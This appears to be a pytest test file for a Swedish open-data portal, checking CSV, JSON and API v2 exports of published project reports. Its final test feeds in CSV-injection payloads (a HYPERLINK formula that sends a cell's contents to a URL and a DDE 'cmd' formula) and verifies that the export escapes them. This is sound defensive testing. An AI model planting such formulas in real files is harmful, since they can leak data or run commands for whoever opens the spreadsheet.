"""Open data: CSV and JSON of every published report, column by column; the API v2.
The reports are those of conftest.py, on the site of `site_pages`."""

import csv
import io
import json

import pytest

from evidence.opendata import COLUMNS, METADATA
from reports import questionnaire


def download(client, path, **params):
    response = client.get(path, params)
    assert response.status_code == 200
    return response, b"".join(response.streaming_content).decode("utf-8")


def csv_rows(client, **params):
    response, text = download(client, "/oppna-data/slutrapporter.csv", **params)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_has_a_row_per_published_report_and_a_column_per_question(site_pages, reports):
    header, *rows = csv_rows(site_pages.client)
    assert header == [label for _, label in COLUMNS]
    assert header[len(METADATA)] == "Antal deltagare totalt"
    assert "Hur har närvaron utvecklats under perioden för projektets genomförande" in " ".join(
        header
    )
    titles = {row[1] for row in rows}
    assert titles == {
        "Malmö-projektet",
        "Lund-projektet",
        "Solna-projektet",
        "Växjö-projektet",
    }
    assert "Utkastet" not in titles and "Det tillbakadragna" not in titles


def test_csv_values_column_by_column(site_pages, reports):
    header, *rows = csv_rows(site_pages.client, rubriker="nycklar")
    assert header == [key for key, _ in COLUMNS]
    malmo = dict(zip(header, next(row for row in rows if row[1] == "Malmö-projektet"), strict=True))
    report = reports["malmo"]
    assert malmo["id"] == str(report.pk)
    assert malmo["url"] == f"{site_pages.site.root_url}{site_pages.url(report)}"
    assert (malmo["municipality_code"], malmo["municipality"]) == ("1280", "Malmö")
    assert (malmo["county_code"], malmo["county"]) == ("12", "Skåne län")
    assert (malmo["organisation_type"], malmo["plugin_round"]) == ("school", "plugin1")
    assert (malmo["period_start"], malmo["period_end"]) == ("2016-08-01", "2017-06-30")
    assert malmo["methods"] == "; ".join(sorted([site_pages.other_method.title, "Testmetod"]))
    assert malmo["tags"] == "autism"
    assert (malmo["participants_total"], malmo["participants_girls"]) == ("10", "4")
    assert malmo["avg_months_enrolled"] == ""
    assert malmo["attendance_change"] == "Ökat mycket"
    assert malmo["kia_mapping_change"] == "Har ej mätt"
    assert malmo["return_to_studies_change"] == ""
    for question in questionnaire.QUESTIONS:
        value = getattr(report, question.key)
        assert malmo[question.key] == ("" if value is None else str(value)), question.key


def test_seed_report_answers_survive_the_csv(client, seed_report):
    header, *rows = csv_rows(client, rubriker="nycklar")
    row = next(row for row in rows if row[0] == str(seed_report.pk))
    seed = dict(zip(header, row, strict=True))
    for question in questionnaire.SURVEY_QUESTIONS:
        assert seed[question.key] == getattr(seed_report, question.key), question.key


def test_filters_are_the_statistics_page_filters(site_pages, reports):
    _, *rows = csv_rows(site_pages.client, county="12", org="school")
    assert [row[1] for row in rows] == ["Malmö-projektet"]


def test_unknown_filter_value_refuses_the_download_with_a_swedish_reason(site_pages, reports):
    response = site_pages.client.get("/oppna-data/slutrapporter.csv", {"county": "99"})
    assert response.status_code == 400
    assert "Län: värdet ”99” finns inte" in response.content.decode()


def test_json_has_the_same_reports_values_and_a_question_schema(site_pages, reports):
    response, text = download(site_pages.client, "/oppna-data/slutrapporter.json", county="12")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    data = json.loads(text)
    assert data["filters"] == {"county": "12"}
    assert [column["key"] for column in data["columns"]] == [key for key, _ in METADATA]
    schema = {question["key"]: question for question in data["questions"]}
    assert set(schema) == set(questionnaire.QUESTIONS_BY_KEY)
    assert schema["attendance_change"]["values"][:2] == ["Ökat mycket", "Ökat ganska mycket"]
    assert schema["goal_results"]["type"] == "text"
    by_title = {report["title"]: report for report in data["reports"]}
    assert set(by_title) == {"Malmö-projektet", "Lund-projektet"}
    lund = by_title["Lund-projektet"]
    assert lund["methods"] == ["Testmetod"] and lund["tags"] == ["hög frånvaro"]
    assert (lund["participants_total"], lund["return_to_studies_change"]) == (20, "Ökat mycket")
    assert lund["period_start"] == "2016-08-01"


def test_api_v2_serves_reports_with_answers_but_never_drafts(site_pages, reports):
    client = site_pages.client
    fields = "municipality,methods,tags,attendance_change,participants_total,goal_results"
    response = client.get(
        "/api/v2/pages/", {"type": "reports.ProjectReportPage", "fields": fields, "limit": 50}
    )
    assert response.status_code == 200
    items = {item["title"]: item for item in response.json()["items"]}
    assert "Utkastet" not in items and "Det tillbakadragna" not in items
    malmo = items["Malmö-projektet"]
    assert malmo["municipality"] == {
        "code": "1280",
        "name": "Malmö",
        "county": {"code": "12", "name": "Skåne län"},
    }
    assert sorted(method["slug"] for method in malmo["methods"]) == sorted(
        [site_pages.other_method.slug, "testmetod"]
    )
    assert (malmo["attendance_change"], malmo["participants_total"]) == ("Ökat mycket", 10)
    draft = reports["draft"]
    assert client.get(f"/api/v2/pages/{draft.pk}/").status_code == 404


@pytest.mark.parametrize(
    "page_type, field",
    [("methods.MethodPage", "success_factors"), ("methods.SuccessFactorPage", "long_name")],
)
def test_api_v2_serves_methods_and_success_factors(site_pages, page_type, field):
    factor = site_pages.factor
    page, expected = {
        "success_factors": (site_pages.method, factor.title),
        "long_name": (factor, factor.long_name),
    }[field]
    response = site_pages.client.get(
        "/api/v2/pages/", {"type": page_type, "fields": field, "limit": 50}
    )
    assert response.status_code == 200
    item = next(item for item in response.json()["items"] if item["id"] == page.pk)
    assert expected in json.dumps(item[field], ensure_ascii=False)


def test_csv_writes_cells_that_look_like_formulas_as_text(site_pages):
    """OWASP's CSV-injection rule, over HTTP and read back with the csv module: a text cell
    beginning with =, +, -, @, a tab or a carriage return gets a leading single quote;
    the JSON keeps the values as they are."""
    from testing.helpers import publish_report

    answers = {
        "tips": '=HYPERLINK("http://example.com/?x="&A1;"Klicka")',
        "learning": "+SUM(1;2)",
        "changes": "-2+3",
        "gender_equality": "@SUM(A1:A9)",
        "accessibility": "\t=1+1",
        "transnational": "\r=cmd|' /C calc'!A0",
        "support_other": "Vanlig text = inget problem",
    }
    report = publish_report(
        "@Formelprojektet", tags=["-flik"], parent=site_pages.reports, **answers
    )
    header, *rows = csv_rows(site_pages.client, rubriker="nycklar")
    row = dict(zip(header, next(r for r in rows if r[0] == str(report.pk)), strict=True))
    assert row["title"] == "'@Formelprojektet"
    assert row["tags"] == "'-flik"
    for key, value in answers.items():
        expected = value if key == "support_other" else f"'{value}"
        assert row[key] == expected, key
    assert row["participants_total"] == "" and row["period_start"] == "2016-08-01"

    _, text = download(site_pages.client, "/oppna-data/slutrapporter.json")
    (data,) = [r for r in json.loads(text)["reports"] if r["id"] == report.pk]
    assert data["title"] == "@Formelprojektet" and data["tags"] == ["-flik"]
    assert {key: data[key] for key in answers} == answers
